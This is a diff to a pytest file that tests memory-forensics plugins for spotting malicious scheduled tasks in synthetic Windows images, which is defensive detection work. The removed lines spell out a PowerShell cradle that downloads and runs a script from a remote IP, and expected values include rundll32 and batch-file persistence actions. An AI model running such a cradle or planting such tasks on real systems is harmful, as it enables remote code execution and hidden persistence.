@@ -12,7 +12,8 @@ import pytest
 
 from Registry import Registry
 
-from test_images.memimage import build_memory_image
+from test_images.memimage import CRADLE, DISK_TASK_GUID, WIN7_CRADLE, WIN7_HOSTNAME, build_memory_image
+from test_images.windows_tree import C2_URL, DOWNLOAD_CRADLE, HOSTNAME
 from tests.memory.conftest import ROOT, run_collector
 
 
@@ -55,13 +56,36 @@ def test_volplugins_path_is_the_package_folder_holding_both_plugins():
 
 @pytest.mark.parametrize("plugin_dir", ["package", "plugins"])
 def test_vol_cli_runs_triage_plugins(images, vol, plugin_dir):
+    """`vol -p` on its own shows what triage's case shows: tasks (linked or not), decoded payloads, the
+    Schedule host from the service records, the task rebuilt from the exited schtasks.exe, the host name."""
     folder = _package_plugin_dir() if plugin_dir == "package" else "plugins"
-    rows = {r["PID"]: r for r in vol(images["win10"], "taskprocs.TaskProcs", plugins=folder)}
-    assert rows[5120]["Task"] == r"\WinUpdateCheck"
-    assert rows[5120]["Decoded"] == "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a.ps1')"
-    assert rows[6044]["Seen"] == "psscan" and rows[7016]["Flags"] == "task_not_in_registry,user_writable_path"
+    rows = {(r["PID"], r["Role"]): r for r in vol(images["win10"], "taskprocs.TaskProcs", plugins=folder)}
+    assert rows[(5120, "task_process")]["Task"] == r"\WinUpdateCheck"
+    assert rows[(5120, "task_process")]["Decoded"] == CRADLE
+    assert rows[(6044, "descendant")]["Seen"] == "psscan"
+    assert rows[(7016, "task_process")]["Flags"] == "task_not_in_registry,user_writable_path"
+    cradle = rows[(7412, "descendant")]
+    assert cradle["Task"] == f"(running task) {DISK_TASK_GUID}" and cradle["Decoded"] == DOWNLOAD_CRADLE
+    assert cradle["DecodedURLs"] == C2_URL and cradle["Host"] == HOSTNAME
+    assert cradle["Ancestry"] == "wininit.exe (524) > services.exe (668) > svchost.exe (1236) > taskhostw.exe (7400)"
+    assert rows[(1236, "schedule_host")]["HostReason"].startswith("Service Control Manager record (svcscan")
+    rebuilt = rows[(6044, "creates_task")]
+    assert rebuilt["Task"] == r"\Microsoft\Windows\Maintenance\SyncData"
+    assert rebuilt["Link"] == r"task rebuilt from this command line: exec: rundll32.exe C:\Users\Public\Libraries\x.dll,StartW"
+    assert rebuilt["Seen"] == "psscan"
+    win7 = {(r["PID"], r["Role"]): r for r in vol(images["win7"], "taskprocs.TaskProcs", plugins=folder)}
+    assert win7[(2536, "task_process")]["Decoded"] == WIN7_CRADLE and win7[(2536, "task_process")]["Host"] == WIN7_HOSTNAME
+    assert win7[(2000, "creates_task")]["Task"] == r"\AdobeFlashSync"
     tasks = {r["Task"]: r for r in vol(images["win7"], "taskcache_mem.TaskCacheMem", plugins=folder)}
     assert tasks[r"\AdobeFlashSync"]["Actions"] == r'exec: cmd.exe /c "C:\Windows\Temp\bk.bat"'
+
+
+def test_stock_svcscan_reads_the_service_records_the_builder_wrote(images, vol):
+    for name, schedule_pid, binary in (("win10", 1236, r"%SystemRoot%\system32\svchost.exe -k netsvcs -p -s Schedule"),
+                                       ("win7", 900, r"%SystemRoot%\system32\svchost.exe -k netsvcs")):
+        rows = {r["Name"]: r for r in vol(images[name], "windows.svcscan")}
+        assert rows["Schedule"]["PID"] == schedule_pid and rows["Schedule"]["State"] == "SERVICE_RUNNING"
+        assert rows["Schedule"]["Binary"] == binary and rows["Schedule"]["Display"] == "Task Scheduler"
 
 
 def test_missing_kernel_symbols_give_one_gap_naming_pdb_guid_and_age(images, tmp_path, capsys):
